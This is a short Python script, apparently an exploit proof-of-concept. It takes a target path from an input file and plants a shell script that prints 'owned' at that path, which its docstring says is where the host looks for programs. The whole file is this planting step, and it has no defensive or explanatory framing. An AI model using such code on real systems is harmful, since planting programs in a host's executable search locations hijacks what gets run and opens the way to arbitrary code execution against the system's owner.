"""Plants a program where the host looks for programs."""
import json

path = json.load(open("input.json"))["path"]
with open(path, "w") as file:
    file.write("#!/bin/sh\necho owned\n")
print("wrote", path)
